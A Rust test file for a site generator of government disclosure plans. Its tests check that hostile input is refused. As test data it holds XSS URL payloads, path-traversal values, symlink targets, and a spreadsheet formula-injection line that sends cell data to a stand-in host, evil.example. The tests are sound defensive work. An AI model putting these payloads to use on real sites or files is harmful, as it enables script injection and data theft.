//! Hostile and careless input: nothing deleted, nothing injected, no panic, bounded
//! work. Each test here failed before the fix it guards.

mod common;

use common::*;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

fn gongkai(root: &Path, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_gongkai"))
        .env("LC_ALL", "C")
        .arg("--root")
        .arg(root)
        .args(args)
        .output()
        .unwrap()
}

fn small_site(root: &Path) {
    write_files(
        root,
        &[(
            "content/plans/p.md",
            &plan(
                "T",
                "某区人民政府",
                2021,
                "## 一、类\n\n1. 甲\n\n   责任单位：区财政局\n",
            ),
        )],
    );
}

#[test]
fn build_refuses_output_folders_that_hold_other_files() {
    let dir = tempfile::TempDir::new().unwrap();
    let site = dir.path().join("site");
    small_site(&site);
    let plan_file = site.join("content/plans/p.md");
    let mine = dir.path().join("my-documents");
    write_files(&mine, &[("letter.txt", "keep me")]);
    let a_file = dir.path().join("a-file");
    std::fs::write(&a_file, "x").unwrap();

    for (output, why) in [
        (site.clone(), "is the site folder"),
        (site.join("content"), "sources"),
        (site.join("content/plans"), "sources"),
        (site.join("themes/default"), "sources"),
        (dir.path().to_path_buf(), "contains the site folder"),
        (mine.clone(), "not empty"),
        (a_file.clone(), "is a file"),
        (site.join("content/../content"), "sources"),
    ] {
        let run = gongkai(&site, &["build", "-o", output.to_str().unwrap()]);
        let err = String::from_utf8_lossy(&run.stderr);
        assert_eq!(run.status.code(), Some(1), "{}: {err}", output.display());
        assert!(err.contains("refusing to write the site"), "{err}");
        assert!(err.contains("hint:"), "{err}");
        let _ = why;
    }
    // Nothing was touched.
    assert!(plan_file.is_file());
    assert_eq!(
        std::fs::read_to_string(mine.join("letter.txt")).unwrap(),
        "keep me"
    );
    assert_eq!(std::fs::read_dir(&mine).unwrap().count(), 1);

    // A new folder, an empty one, and a gongkai output again are fine.
    let out = dir.path().join("public");
    assert!(
        gongkai(&site, &["build", "-o", out.to_str().unwrap()])
            .status
            .success()
    );
    assert!(out.join(gongkai::output::MARKER).is_file());
    assert!(
        gongkai(&site, &["build", "-o", out.to_str().unwrap()])
            .status
            .success()
    );
    let empty = dir.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    assert!(
        gongkai(&site, &["build", "-o", empty.to_str().unwrap()])
            .status
            .success()
    );

    // The staging folder a build removes must be gongkai's own too.
    let other = dir.path().join("other");
    write_files(dir.path(), &[("other.staging/notes.txt", "mine")]);
    let run = gongkai(&site, &["build", "-o", other.to_str().unwrap()]);
    assert_eq!(run.status.code(), Some(1));
    assert!(dir.path().join("other.staging/notes.txt").is_file());
}

#[test]
fn preview_refuses_output_folders_that_hold_other_files() {
    let dir = tempfile::TempDir::new().unwrap();
    let site = dir.path().join("site");
    small_site(&site);
    let mine = dir.path().join("mine");
    write_files(&mine, &[("letter.txt", "keep me")]);
    let mut session = gongkai::incremental::Session::new(&site, &mine);
    let update = session.update();
    assert!(!update.outcome.succeeded());
    assert!(update.outcome.report().contains("refusing to write"));
    assert_eq!(std::fs::read_dir(&mine).unwrap().count(), 1);
}

#[test]
fn source_must_be_a_web_address() {
    for bad in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        "http://",
        "https://exa mple.gov.cn/",
        "https://example.gov.cn/\\\"onmouseover=alert(1)",
    ] {
        let text = format!(
            "+++\ntitle = \"T\"\nissuer = \"I\"\nyear = 2021\nsource = \"{bad}\"\n+++\n\n## 类\n\n1. 甲\n\n   责任单位：办\n"
        );
        let site = build_fixture(&[("content/plans/p.md", &text)]);
        let report = site.outcome.report();
        assert!(!site.outcome.succeeded(), "{bad:?} was accepted");
        assert!(
            report.contains("p.md:5:") && report.contains("`source` is not a web address"),
            "{bad:?}: {report}"
        );
        assert!(!site.exists("index.html"));
    }
    let text = "+++\ntitle = \"T\"\nissuer = \"I\"\nyear = 2021\nsource = \"HTTPS://www.example.gov.cn/a?b=1&c=2\"\n+++\n\n## 类\n\n1. 甲\n\n   责任单位：办\n";
    let site = build_fixture(&[("content/plans/p.md", text)]);
    assert!(site.outcome.succeeded(), "{}", site.outcome.report());
    assert!(
        site.read("plans/p/index.html")
            .contains("href=\"HTTPS://www.example.gov.cn/a?b=1&amp;c=2\"")
    );
    // `check` reports it too.
    let dir = tempfile::TempDir::new().unwrap();
    write_files(
        dir.path(),
        &[(
            "content/plans/p.md",
            &text.replace("HTTPS://www.example.gov.cn/a?b=1&c=2", "javascript:x"),
        )],
    );
    let run = gongkai(dir.path(), &["check"]);
    assert_eq!(run.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&run.stderr).contains("`source` is not a web address"));
    // The config's base URL is checked the same way.
    let site = build_fixture(&[
        (
            "content/plans/p.md",
            &text.replace("HTTPS://www.example.gov.cn/a?b=1&c=2", "https://a.cn/"),
        ),
        ("gongkai.toml", "base_url = \"javascript:alert(1)//\"\n"),
    ]);
    assert!(
        site.outcome.report().contains("gongkai.toml:1:1"),
        "{}",
        site.outcome.report()
    );
}

#[test]
fn importer_survives_characters_of_every_width() {
    for doc in [
        "2021年政务公开工作要点分工方案\n三、推进5G\n1. 做好公开。（办公室牵头）\n",
        "2021年政务公开工作要点分工方案\n（二）加强AI\n1. 做好公开。（办公室牵头）\n",
        "2021年政务公开工作要点分工方案\n十五、Z\n1. 做好公开。（办公室牵头）\n",
        "2021年政务公开工作要点分工方案\n一、推进😀\n1. 做好公开😀。（办公室牵头）\n",
        "某区20二〇年政务公开工作要点\n一、类\n1. 做好公开。（办公室牵头）\n",
        "某区20年政务公开工作要点\n一、类\n1. 做好公开。\n",
        "𠀀區2021年政務公開工作要點\n文號：𠀀〔2021〕1號\n發布日期：2021年7月5日\n一、類\n1. 做好公開。（辦公室牽頭）\n",
        "一、\n1.\n（）\n、\n",
    ] {
        let imported = gongkai::import::import(doc);
        // Whatever was read must be a valid plan file.
        let parsed = gongkai::parse::parse_plan(Path::new("x.md"), "x", &imported.markdown);
        assert!(parsed.plan.is_some(), "{doc:?}\n{}", imported.markdown);
    }
}

#[test]
fn every_line_end_is_a_line_end() {
    let lf = "2021年某区政务公开工作要点分工方案\n一、做好财政信息公开\n1. 公开预算。（区财政局牵头）\n2. 公开决算。（区财政局牵头）\n";
    let expected = gongkai::import::import(lf);
    assert_eq!(expected.tasks, 2);
    for ending in ["\r\n", "\r", "\u{2028}", "\u{2029}"] {
        let imported = gongkai::import::import(&lf.replace('\n', ending));
        assert_eq!(imported.tasks, 2, "{ending:?}");
        assert_eq!(imported.markdown, expected.markdown, "{ending:?}");
    }
    // Plan files with old-Mac line ends build like any other.
    let text = plan("T", "I", 2021, "## 一、类\n\n1. 甲\n\n   责任单位：办\n").replace('\n', "\r");
    let site = build_fixture(&[("content/plans/p.md", &text)]);
    assert!(site.outcome.succeeded(), "{}", site.outcome.report());
    assert_eq!(site.tasks_json().len(), 1);
}

#[test]
fn an_import_that_finds_no_task_fails() {
    let dir = tempfile::TempDir::new().unwrap();
    let doc = dir.path().join("notice.txt");
    std::fs::write(&doc, "关于做好政务公开工作的通知\n各单位：请认真落实。\n").unwrap();
    let out = dir.path().join("plan.md");
    let run = Command::new(env!("CARGO_BIN_EXE_gongkai"))
        .env("LC_ALL", "C")
        .args(["import", doc.to_str().unwrap(), "-o", out.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&run.stderr).contains("no task could be read"));
    assert!(!out.exists());
}

#[test]
fn invisible_characters_never_reach_the_plan_file() {
    for invisible in [
        "\u{200b}", "\u{feff}", "\u{ad}", "\u{2028}", "\u{202e}", "\0", "\u{7f}",
    ] {
        let doc = format!(
            "2021年某区政务{invisible}公开工作要点\n一、做好财政{invisible}信息公开\n1. 公开预算。（区财政{invisible}局牵头）\n"
        );
        let imported = gongkai::import::import(&doc);
        let front = imported.markdown.split("+++").nth(1).unwrap();
        assert!(
            toml::from_str::<toml::Table>(front).is_ok(),
            "{invisible:?}: {front}"
        );
        assert!(
            !imported.markdown.contains(invisible) || invisible == "\u{2028}",
            "{invisible:?}: {}",
            imported.markdown
        );
        let plan = gongkai::parse::parse_plan(Path::new("x.md"), "x", &imported.markdown)
            .plan
            .unwrap_or_else(|| panic!("{invisible:?}: {}", imported.markdown));
        assert!(
            plan.meta.title.contains("政务公开工作要点"),
            "{:?}",
            plan.meta.title
        );
    }
    // In a hand-written plan the names lose them too.
    let text = "+++\ntitle = \"政务\u{200b}公开\"\nissuer = \"某区\u{feff}\"\nyear = 2021\n+++\n\n## 一、财政\u{200b}信息\n\n1. 甲\n\n   责任单位：区财政\u{200b}局\n";
    let site = build_fixture(&[("content/plans/p.md", text)]);
    let tasks = site.tasks_json();
    assert_eq!(tasks[0]["plan_title"], "政务公开");
    assert_eq!(tasks[0]["responsible"][0], "区财政局");
}

#[test]
fn long_names_build_when_check_passes() {
    let long = "关于进一步加强和改进基层政务公开标准化规范化工作推进政务服务数据管理和信息公开的专门工作领导小组办公室";
    let text = plan(
        "T",
        &format!("{long}人民政府"),
        2021,
        &format!("## 一、{long}工作\n\n1. 甲\n\n   责任单位：{long}\n"),
    );
    let dir = tempfile::TempDir::new().unwrap();
    write_files(dir.path(), &[(&format!("content/plans/{long}.md"), &text)]);
    assert!(gongkai(dir.path(), &["check"]).status.success());
    let run = gongkai(dir.path(), &["build"]);
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
}

#[test]
fn work_is_bounded_on_huge_and_deep_input() {
    // 80,000 nested quotes: refused at once, with the place.
    let deep = plan(
        "T",
        "I",
        2021,
        &format!(
            "## 类\n\n1. 甲\n\n   责任单位：办\n\n{}深\n",
            ">".repeat(80_000)
        ),
    );
    let started = Instant::now();
    let parsed = gongkai::parse::parse_plan(Path::new("p.md"), "p", &deep);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert!(parsed.plan.is_none());
    assert!(parsed.diagnostics[0].message.contains("nested too deeply"));
    // So is raw HTML nested as deep.
    let html = plan(
        "T",
        "I",
        2021,
        &format!("## 类\n\n{}x\n", "<div>".repeat(80_000)),
    );
    let started = Instant::now();
    assert!(
        gongkai::parse::parse_plan(Path::new("p.md"), "p", &html)
            .plan
            .is_none()
    );
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );

    // One plan of 20,000 tasks is read in linear time (it took 36 s).
    let mut body = String::from("## 一、类\n\n");
    for n in 1..=20_000 {
        body.push_str(&format!("{n}. 任务{n}\n\n   责任单位：办\n\n"));
    }
    let text = plan("T", "I", 2021, &body);
    let started = Instant::now();
    let parsed = gongkai::parse::parse_plan(Path::new("p.md"), "p", &text);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(parsed.plan.unwrap().tasks().len(), 20_000);

    // 10,000 cells in one row (it took 7–20 s).
    let row = std::iter::repeat_n("格", 10_000)
        .collect::<Vec<_>>()
        .join("\t");
    let doc =
        format!("2021年政务公开工作要点\n工作任务\t具体要求\t责任单位\n一、类\n1. 任务\t{row}\n");
    let started = Instant::now();
    gongkai::import::import(&doc);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn paragraphs_indented_three_spaces_under_task_10_belong_to_it_with_a_warning() {
    let mut body = String::from("## 一、类\n\n");
    for n in 1..=11 {
        body.push_str(&format!(
            "{n}. 任务{n}\n\n   要求{n}。\n\n   责任单位：办{n}\n   完成时限：2021年底前\n\n"
        ));
    }
    let site = build_fixture(&[("content/plans/p.md", &plan("T", "I", 2021, &body))]);
    assert!(site.outcome.succeeded(), "{}", site.outcome.report());
    assert!(
        !site.outcome.report().contains("has no units"),
        "{}",
        site.outcome.report()
    );
    let tasks = site.tasks_json();
    assert_eq!(tasks.len(), 11);
    for t in &tasks {
        let n = t["number"].as_str().unwrap();
        assert_eq!(t["responsible"][0], format!("办{n}"));
        assert_eq!(t["deadline"], "2021年底前");
        assert_eq!(t["requirement"], format!("要求{n}。"));
    }
    // The plan page shows no stray paragraph of attribute lines.
    assert!(!site.read("plans/p/index.html").contains("<p>责任单位："));
    // One warning per two-digit task (10 and 11), that says how to indent.
    let report = site.outcome.report();
    assert_eq!(
        report
            .matches("indented less than the text of task")
            .count(),
        2,
        "{report}"
    );
    assert!(
        report.contains("task 10;") && report.contains("task 11;"),
        "{report}"
    );
    assert!(report.contains("under `10.` by 4 spaces"), "{report}");
}

#[test]
fn a_template_that_fails_while_rendering_changes_no_output() {
    let dir = tempfile::TempDir::new().unwrap();
    small_site(dir.path());
    let out = dir.path().join("output");
    let mut session = gongkai::incremental::Session::new(dir.path(), &out);
    assert!(session.update().outcome.succeeded());
    let snapshot = |out: &Path| -> Vec<(String, Vec<u8>)> {
        let mut files: Vec<(String, Vec<u8>)> = walkdir::WalkDir::new(out)
            .into_iter()
            .flatten()
            // tantivy's own bookkeeping (`.managed.json`, locks) is not output.
            .filter(|e| {
                e.file_type().is_file() && !e.file_name().to_string_lossy().starts_with(".managed")
            })
            .map(|e| {
                (
                    e.path().strip_prefix(out).unwrap().display().to_string(),
                    std::fs::read(e.path()).unwrap(),
                )
            })
            .collect();
        files.sort();
        files
    };
    let before = snapshot(&out);
    // The plan changes, and the plan template uses a variable that does not exist:
    // tera finds out only while rendering.
    write_files(
        dir.path(),
        &[
            (
                "content/plans/p.md",
                &plan(
                    "T",
                    "某区人民政府",
                    2021,
                    "## 一、类\n\n1. 乙\n\n   责任单位：区教育局\n",
                ),
            ),
            ("templates/plan.html", "{{ no_such_variable.x }}"),
        ],
    );
    let update = session.update();
    assert!(!update.outcome.succeeded());
    assert!(
        update.outcome.report().contains("cannot render"),
        "{}",
        update.outcome.report()
    );
    let after = snapshot(&out);
    let changed: Vec<&String> = after
        .iter()
        .filter(|f| !before.contains(f))
        .map(|(p, _)| p)
        .chain(before.iter().filter(|f| !after.contains(f)).map(|(p, _)| p))
        .collect();
    let gone: Vec<&String> = before
        .iter()
        .filter(|f| !after.contains(f))
        .map(|(p, _)| p)
        .collect();
    assert!(
        changed.is_empty(),
        "open data, index and pages are as they were: {changed:?}; gone or changed: {gone:?}"
    );
}

#[test]
fn a_lock_value_that_is_not_a_slug_is_an_error_at_its_line_and_writes_nothing() {
    let dir = tempfile::TempDir::new().unwrap();
    let site = dir.path().join("a/b/c/site");
    small_site(&site);
    for (lock, line) in [
        ("[categories]\n\"类\" = \"../../../victim\"\n", 2),
        (
            "[jurisdictions]\n\"某区人民政府\" = \"mou-qu\"\n\n[units]\n\"某区人民政府/区财政局\" = \"mou-qu/../../../../x\"\n",
            5,
        ),
        ("[jurisdictions]\n\"某区人民政府\" = \"/etc\"\n", 2),
    ] {
        std::fs::write(site.join("gongkai.lock"), lock).unwrap();
        for command in ["check", "build"] {
            let run = gongkai(&site, &[command]);
            let err = String::from_utf8_lossy(&run.stderr);
            assert_eq!(run.status.code(), Some(1), "{command}: {err}");
            assert!(err.contains("is not a slug"), "{err}");
            assert!(err.contains(&format!("gongkai.lock:{line}:")), "{err}");
        }
        // Nothing was written anywhere: not the output, not outside it.
        assert!(!site.join("output").exists());
        let written: Vec<_> = walkdir::WalkDir::new(dir.path())
            .into_iter()
            .filter_map(Result::ok)
            .filter(|e| {
                let name = e.file_name().to_string_lossy();
                name == "index.html" || name == "tasks.csv"
            })
            .collect();
        assert!(written.is_empty(), "{written:?}");
    }
}

#[test]
fn no_csv_cell_can_start_a_formula_and_the_import_reads_them_back() {
    let built = build_fixture(&[(
        "content/plans/p.md",
        &plan(
            "T",
            "某区人民政府",
            2021,
            "## 一、类\n\n1. =HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")\n\n   责任单位：@SUM(1+1)局\n   完成时限：-2+3\n\n2. +1 公开预算\n\n   责任单位：区财政局\n",
        ),
    )]);
    assert!(built.outcome.succeeded(), "{}", built.outcome.report());
    let mut files = 0;
    let mut cells = Vec::new();
    for entry in walkdir::WalkDir::new(built.out()) {
        let entry = entry.unwrap();
        if entry.path().extension().is_none_or(|e| e != "csv") {
            continue;
        }
        files += 1;
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_path(entry.path())
            .unwrap();
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let cell = cell.trim_start_matches('\u{feff}');
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: {cell}",
                    entry.path().display()
                );
                cells.push(cell.to_string());
            }
        }
    }
    // data/tasks.csv, the plan's ledger and at least two units' ledgers.
    assert!(files >= 4, "{files} CSV files");
    assert!(
        cells.iter().any(|c| c.starts_with("'=HYPERLINK(")),
        "{cells:?}"
    );
    assert!(cells.iter().any(|c| c == "'-2+3"), "{cells:?}");
    // The open data reads back as it was written.
    let csv = std::fs::read(built.out().join("data/tasks.csv")).unwrap();
    let (imported, _) = gongkai::import::import_bytes(&csv, None).unwrap();
    assert!(
        imported
            .markdown
            .contains("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")"),
        "{}",
        imported.markdown
    );
    assert!(
        imported.markdown.contains("完成时限：-2+3"),
        "{}",
        imported.markdown
    );
}

/// The files of a whole site, by path and size (the search index's segment
/// files, named anew by every build, by count).
fn site_files(out: &Path) -> Vec<(String, u64)> {
    let mut files: Vec<(String, u64)> = walkdir::WalkDir::new(out)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            let rel = e
                .path()
                .strip_prefix(out)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            let len = e.metadata().unwrap().len();
            if rel.starts_with("search/index/") && rel != "search/index/meta.json" {
                ("search/index/(segment file)".to_string(), 0)
            } else if rel == "search/index/meta.json" {
                (rel, 0)
            } else {
                (rel, len)
            }
        })
        .collect();
    files.sort();
    files
}

#[test]
fn a_build_killed_at_any_moment_leaves_a_whole_site_and_the_next_build_works() {
    let dir = tempfile::TempDir::new().unwrap();
    let site = dir.path().join("site");
    copy_bundled_site(&site);
    let out = site.join("output");
    let old = site.join("output.old");
    let staging = site.join("output.staging");
    let started = Instant::now();
    assert!(gongkai(&site, &["build"]).status.success());
    let took = started.elapsed();
    let whole = site_files(&out);
    assert!(whole.iter().any(|(p, _)| p == "index.html"));
    let assert_whole = |when: &str| {
        assert_eq!(site_files(&out), whole, "output/ after {when}");
    };

    // Chosen points of the swap, as the kill leaves them on disk.
    let copy = |from: &Path, to: &Path| {
        for entry in walkdir::WalkDir::new(from) {
            let entry = entry.unwrap();
            let target = to.join(entry.path().strip_prefix(from).unwrap());
            if entry.file_type().is_dir() {
                std::fs::create_dir_all(&target).unwrap();
            } else {
                std::fs::copy(entry.path(), &target).unwrap();
            }
        }
    };
    let points: [(&str, &dyn Fn()); 5] = [
        ("removing output.old, only empty folders left", &|| {
            std::fs::create_dir_all(old.join("units/x")).unwrap();
            std::fs::create_dir_all(old.join("plans")).unwrap();
        }),
        ("removing output.old, files and the marker left", &|| {
            copy(&out, &old);
            std::fs::remove_file(old.join("index.html")).unwrap();
        }),
        ("writing output.staging", &|| {
            copy(&out, &staging);
            std::fs::remove_dir_all(staging.join("plans")).unwrap();
        }),
        (
            "between the two renames: no output/, the old site beside it",
            &|| {
                std::fs::rename(&out, &old).unwrap();
            },
        ),
        ("between the two renames, the new site staged", &|| {
            copy(&out, &staging);
            std::fs::rename(&out, &old).unwrap();
        }),
    ];
    for (point, leave) in points {
        leave();
        let run = gongkai(&site, &["build"]);
        assert!(
            run.status.success(),
            "after a kill {point}: {}",
            String::from_utf8_lossy(&run.stderr)
        );
        assert_whole(point);
        assert!(!old.exists() && !staging.exists(), "{point}");
    }
    // Folders that hold other files are still refused.
    write_files(&old, &[("notes.txt", "mine")]);
    assert_eq!(gongkai(&site, &["build"]).status.code(), Some(1));
    assert!(old.join("notes.txt").is_file());
    std::fs::remove_dir_all(&old).unwrap();

    // Random kills of the real process: output/ is always the whole site, and
    // every build after a kill succeeds.
    let mut rng = fastrand::Rng::with_seed(28);
    for round in 0..20 {
        let mut child = Command::new(env!("CARGO_BIN_EXE_gongkai"))
            .env("LC_ALL", "C")
            .arg("--root")
            .arg(&site)
            .arg("build")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let delay = took.mul_f64(rng.f64() * 1.2);
        let until = Instant::now() + delay;
        while Instant::now() < until && child.try_wait().unwrap().is_none() {
            std::thread::sleep(Duration::from_millis(2));
        }
        let _ = child.kill();
        let _ = child.wait();
        assert_whole(&format!("kill {round} after {delay:?}"));
        if round % 5 == 4 {
            let run = gongkai(&site, &["build"]);
            assert!(
                run.status.success(),
                "after kill {round}: {}",
                String::from_utf8_lossy(&run.stderr)
            );
            assert_whole(&format!("the build after kill {round}"));
        }
    }
}

#[test]
fn import_never_overwrites_without_force_nor_follows_a_link() {
    let dir = tempfile::TempDir::new().unwrap();
    let doc = dir.path().join("plan.txt");
    std::fs::write(
        &doc,
        "某区2021年政务公开工作要点分工方案\n一、类\n1.公开预算。\n责任单位：区财政局\n",
    )
    .unwrap();
    let import = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_gongkai"))
            .env("LC_ALL", "C")
            .arg("import")
            .arg(&doc)
            .args(args)
            .output()
            .unwrap()
    };
    let target = dir.path().join("p.md");
    std::fs::write(&target, "my edits").unwrap();
    let run = import(&["-o", target.to_str().unwrap()]);
    assert_eq!(run.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&run.stderr).contains("--force"));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "my edits");
    assert!(
        import(&["-o", target.to_str().unwrap(), "--force"])
            .status
            .success()
    );
    assert!(
        std::fs::read_to_string(&target)
            .unwrap()
            .contains("公开预算")
    );

    // A link at the target: refused; with --force the link is replaced, and the
    // file it pointed to is untouched.
    let victim = dir.path().join("victim.toml");
    std::fs::write(&victim, "title = \"mine\"").unwrap();
    let link = dir.path().join("link.md");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    assert_eq!(
        import(&["-o", link.to_str().unwrap()]).status.code(),
        Some(2)
    );
    assert!(
        import(&["-o", link.to_str().unwrap(), "--force"])
            .status
            .success()
    );
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "title = \"mine\""
    );
    assert!(
        !std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // A folder is never a target; no temporary file is left behind.
    assert_eq!(
        import(&["-o", dir.path().to_str().unwrap(), "--force"])
            .status
            .code(),
        Some(2)
    );
    let left: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("gongkai-tmp"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn deep_html_is_refused_in_bounded_time() {
    for (what, page) in [
        (
            "nested <b>",
            format!("<html><body><p>{}1.公开预算</p>", "<b>".repeat(15_000)),
        ),
        (
            "nested tables",
            format!("<html><body>{}1.公开预算", "<table><tr><td>".repeat(20_000)),
        ),
    ] {
        let started = Instant::now();
        let result = gongkai::import::import_bytes(page.as_bytes(), None);
        let took = started.elapsed();
        let err = result.err().unwrap_or_else(|| panic!("{what}: imported"));
        assert!(err.message.contains("nest"), "{what}: {}", err.message);
        assert!(took < Duration::from_secs(5), "{what}: {took:?}");
    }
    // A page nested as deep as real ones are still reads.
    let page = format!(
        "<html><body>{}<p>某区2021年政务公开工作要点</p><p>一、类</p><p>1.公开预算。（区财政局负责）</p>{}</body></html>",
        "<div>".repeat(60),
        "</div>".repeat(60)
    );
    let (imported, _) = gongkai::import::import_bytes(page.as_bytes(), None).unwrap();
    assert_eq!(imported.tasks, 1);
}

#[test]
fn the_size_limit_is_checked_before_reading() {
    let dir = tempfile::TempDir::new().unwrap();
    // A sparse file of 1 GB: refused from its size, at once.
    let sparse = dir.path().join("big.txt");
    std::fs::File::create(&sparse)
        .unwrap()
        .set_len(1 << 30)
        .unwrap();
    let started = Instant::now();
    let err = gongkai::import::read_document(&sparse).unwrap_err();
    assert!(err.message.contains("1024 MB"), "{}", err.message);
    assert!(started.elapsed() < Duration::from_millis(500));
    // A pipe that never ends: read up to the limit, then refused.
    let fifo = dir.path().join("fifo");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let writer = {
        let fifo = fifo.clone();
        std::thread::spawn(move || {
            use std::io::Write;
            let mut pipe = std::fs::OpenOptions::new().write(true).open(fifo).unwrap();
            let zeros = vec![0u8; 1 << 16];
            // Until the reader goes away (a broken pipe), or far past the limit.
            for _ in 0..2_000 {
                if pipe.write_all(&zeros).is_err() {
                    return true;
                }
            }
            false
        })
    };
    let err = gongkai::import::read_document(&fifo).unwrap_err();
    assert!(err.message.contains("20 MB"), "{}", err.message);
    assert!(writer.join().unwrap(), "the reader stopped at the limit");
}

#[test]
fn titleless_headings_and_linked_plans_are_never_silent() {
    let dir = tempfile::TempDir::new().unwrap();
    let site = dir.path().join("site");
    small_site(&site);
    write_files(
        &site,
        &[(
            "content/plans/q.md",
            &plan(
                "Q",
                "某区人民政府",
                2021,
                "## 三、\n\n1. 甲\n\n   责任单位：区财政局\n\n## ★★\n\n2. 乙\n\n   责任单位：区财政局\n",
            ),
        )],
    );
    let run = gongkai(&site, &["check"]);
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "{err}");
    assert!(err.contains("q.md:7:1"), "{err}");
    assert!(err.contains("q.md:13:1"), "{err}");
    assert_eq!(err.matches("on no category page").count(), 2, "{err}");

    let outside = dir.path().join("secret.md");
    std::fs::write(&outside, plan("S", "某区人民政府", 2021, "")).unwrap();
    std::os::unix::fs::symlink(&outside, site.join("content/plans/s.md")).unwrap();
    let run = gongkai(&site, &["check"]);
    let err = String::from_utf8_lossy(&run.stderr);
    assert_eq!(run.status.code(), Some(1), "{err}");
    assert!(err.contains("s.md is a symbolic link"), "{err}");
}

#[test]
fn big_task_numbers_are_read_and_bigger_ones_are_warned() {
    let mut text = String::from("某区2021年政务公开工作要点分工方案\n一、类\n");
    for n in [998, 999, 1000, 1001, 65_400] {
        text.push_str(&format!("{n}.第{n}项任务。\n责任单位：区财政局\n"));
    }
    text.push_str("1234567.过大的序号。\n2021.5.1前完成。\n");
    let (imported, _) = gongkai::import::import_bytes(text.as_bytes(), None).unwrap();
    assert_eq!(imported.tasks, 5, "{}", imported.markdown);
    assert!(
        imported.markdown.contains("1000. 第1000项任务"),
        "{}",
        imported.markdown
    );
    assert!(
        imported.markdown.contains("65400. 第65400项任务"),
        "{}",
        imported.markdown
    );
    assert!(
        imported
            .warnings
            .iter()
            .any(|w| w.line == 13 && w.message.contains("1234567")),
        "{:?}",
        imported.warnings
    );
}

#[test]
fn a_word_document_that_is_not_utf8_says_so() {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(
        "word/document.xml",
        zip::write::SimpleFileOptions::default(),
    )
    .unwrap();
    zip.write_all(b"<?xml version=\"1.0\"?><w:document>\xff\xfe</w:document>")
        .unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    let err = gongkai::import::import_bytes(&bytes, None).unwrap_err();
    assert!(
        err.message.contains("word/document.xml cannot be read"),
        "{}",
        err.message
    );
    assert!(err.message.contains("not UTF-8"), "{}", err.message);
}

#[test]
fn a_key_without_its_colon_and_an_impossible_date_are_never_silent() {
    let dir = tempfile::TempDir::new().unwrap();
    let site = dir.path().join("site");
    write_files(
        &site,
        &[(
            "content/plans/p.md",
            &plan(
                "T",
                "某县人民政府",
                2026,
                "## 一、类\n\n1. 甲\n\n   牵头单位县财政局\n\n2. 乙\n\n   责任单位：县审计局\n   完成时限：2026年13月底前\n",
            ),
        )],
    );
    let run = gongkai(&site, &["check"]);
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "{err}");
    assert!(err.contains("p.md:11:"), "{err}");
    assert!(err.contains("no colon after it"), "{err}");
    assert!(err.contains("does not exist"), "{err}");
}

#[test]
fn a_base_url_without_a_host_is_warned() {
    let dir = tempfile::TempDir::new().unwrap();
    let site = dir.path().join("site");
    small_site(&site);
    std::fs::write(
        site.join("gongkai.toml"),
        "title = \"T\"\nbase_url = \"/\"\n",
    )
    .unwrap();
    let run = gongkai(&site, &["check"]);
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "{err}");
    assert!(err.contains("a path without a host"), "{err}");
}
